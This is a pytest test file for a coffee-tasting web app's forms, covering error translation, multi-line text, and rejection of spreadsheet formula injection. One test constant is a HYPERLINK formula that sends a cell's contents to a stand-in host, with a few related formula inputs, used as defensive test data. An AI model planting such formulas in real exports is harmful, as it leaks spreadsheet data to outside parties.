"""What all forms of the bench share."""

import ast
from pathlib import Path

import pytest

from evenhand import bench
from evenhand.bench.coffee.forms import BatchForm, LotForm
from evenhand.bench.pull.forms import CorrectionForm, PullForm
from evenhand.bench.setup.lists import NamesForm
from evenhand.bench.setup.people import PersonForm
from evenhand.bench.start.forms import SetUpForm
from evenhand.bench.verdict.forms import WithdrawForm
from evenhand.records._refusals import FieldError
from evenhand.records.models import GreenLot, Withdrawal
from evenhand.records.models._fields import check_text
from evenhand.words import say

SENT = "The grinder slipped.\r\nTasted again on Monday."
"""Two lines as a browser sends them: with carriage return and line feed (HTML standard, form submission)."""


def test_what_the_records_refuse_is_told_in_the_language_of_the_page(monkeypatch):
    monkeypatch.setattr("evenhand.bench.telling.gettext", lambda text: f"⟦{text}⟧")
    form = WithdrawForm({"reason": "x"})
    form.is_valid()
    form.refuse(FieldError("name", say("{name} stands in the records already.", name='"Una"'), noun=say("person")))
    assert form.non_field_errors() == ['⟦⟦⟦person⟧, name⟧: ⟦"Una" stands in the records already.⟧⟧']


def test_every_refusal_of_the_bench_can_be_translated():
    """What a room refuses is in no language alone; what keeps the server from starting is said in the terminal."""
    source = Path(bench.__file__).parent
    plain = [
        f"{file.relative_to(source)}:{node.lineno}"
        for file in sorted(source.rglob("*.py"))
        if file.name not in ("serving.py", "certificate.py", "settings.py")
        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8")))
        if isinstance(node, ast.Call) and getattr(node.func, "id", "") in ("RecordError", "RefusedError")
        for said in node.args
        if isinstance(said, ast.JoinedStr) or (isinstance(said, ast.Constant) and isinstance(said.value, str))
    ]
    assert plain == []


def test_a_text_of_several_lines_can_be_kept_in_the_records():
    form = WithdrawForm({"reason": SENT})
    assert form.is_valid()
    assert form.cleaned_data["reason"] == "The grinder slipped.\nTasted again on Monday."
    check_text(Withdrawal._meta.get_field("reason"), form.cleaned_data["reason"])


def test_a_line_end_counts_once_as_it_does_in_the_browser():
    assert WithdrawForm({"reason": "a\r\n" * 999 + "b"}).is_valid()


@pytest.mark.django_db
def test_a_note_of_several_lines_is_kept_through_a_page(client_as):
    answer = client_as("Wim").post("/coffees/lots/new/", {"name": "Ridge 4", "note": SENT})
    assert answer.status_code in (302, 303)
    assert GreenLot.objects.get(name="Ridge 4").note == SENT.replace("\r\n", "\n")


FORMULA = '=HYPERLINK("http://there.invalid/?"&A1;"open")'
"""What a spreadsheet would run: OWASP, "CSV Injection", names =, +, -, @, tab, carriage return (from memory)."""


@pytest.mark.parametrize(
    ("form", "field", "typed"),
    [
        (PullForm, "grind_setting", FORMULA),
        (PullForm, "grind_setting", "@SUM(A1)"),
        (PullForm, "grind_setting", "+A1"),
        (BatchForm, "label", FORMULA),
        (LotForm, "name", FORMULA),
        (LotForm, "producers", f"Ridge\r\n{FORMULA}"),
        (NamesForm, "names", f"plum, {FORMULA}"),
        (PersonForm, "name", FORMULA),
        (SetUpForm, "coffee", FORMULA),
    ],
)
def test_no_form_takes_a_formula_for_a_name(form, field, typed):
    errors = form({field: typed}).errors[field]
    assert [error for error in errors if "run it as a formula" in error]


@pytest.mark.parametrize("typed", ["4.2", "+2", "-3", "+1,5", "fine = 4", "2@9", "A+"])
def test_usual_settings_are_taken(typed):
    assert "grind_setting" not in PullForm({"grind_setting": typed}).errors


def test_a_formula_that_stands_in_the_records_does_not_stop_a_correction():
    held = {"grind_setting": FORMULA, "mark": "x"}
    assert "grind_setting" not in CorrectionForm({"grind_setting": FORMULA}, initial=held).errors
    assert "grind_setting" in CorrectionForm({"grind_setting": FORMULA + "1"}, initial=held).errors
